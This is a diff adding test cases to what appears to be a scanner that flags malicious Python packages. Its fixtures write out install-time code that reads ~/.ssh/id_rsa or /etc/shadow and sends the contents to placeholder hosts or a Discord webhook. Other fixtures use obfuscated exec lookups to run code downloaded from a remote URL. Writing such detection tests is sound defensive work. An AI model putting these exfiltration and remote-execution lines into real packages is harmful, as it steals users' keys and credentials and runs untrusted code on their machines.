@@ -201,3 +201,70 @@ test('what a client of a messenger is made with is the name of its session, no h
   expect(told).toMatchObject([{ context: 'call', line: 5 }]);
   expect(told[0]?.message).toBe('Sends credentials to a host.');
 });
+
+test.each([
+  [
+    'the body that is given to a request afterwards',
+    ['q = urllib.request.Request(URL)', 'q.data = KEY', 'urllib.request.urlopen(q)'],
+  ],
+  [
+    'the headers of an opener',
+    ['o = urllib.request.build_opener()', "o.addheaders = [('Cookie', KEY)]", 'o.open(URL)'],
+  ],
+  [
+    'a webhook’s client',
+    [
+      'from dhooks import Webhook',
+      "Webhook('https://discord.com/api/webhooks/000000000000000000/example-of-a-token').send(KEY)",
+    ],
+  ],
+  [
+    'what a program printed into a pipe',
+    ["t, _ = subprocess.Popen(['cat', '/etc/shadow'], stdout=-1).communicate()", 'urllib.request.urlopen(URL, t)'],
+  ],
+])('%s carries a key away', async (_what, lines) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, subprocess, urllib.request',
+      "URL = 'https://in.metrics.invalid/k'",
+      "KEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
+      ...lines,
+    ),
+  });
+
+  const [told] = await inspect('exfiltration', file);
+
+  expect(told).toMatchObject({ class: 'malware', context: 'import', line: 3 + lines.length });
+});
+
+test('look-alike: a request that is given its body and its headers by a caller', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import urllib.request',
+      'def post(url, body, agent):',
+      '    q = urllib.request.Request(url)',
+      '    q.data = body',
+      '    o = urllib.request.build_opener()',
+      "    o.addheaders = [('User-Agent', agent)]",
+      '    return o.open(q).read()',
+    ),
+  });
+
+  expect((await analysePacked(file)).score).toBe(0);
+});
+
+test.each([
+  "__builtins__['ex' + 'ec']",
+  "__import__('warnings').catch_warnings.__init__.__globals__['sys'].modules['builtins'].exec",
+])('%s is the function of that name', async (exec) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import urllib.request',
+      `${exec}(urllib.request.urlopen('https://stage.metrics.invalid/a').read())`,
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 2 },
+  ]);
+});
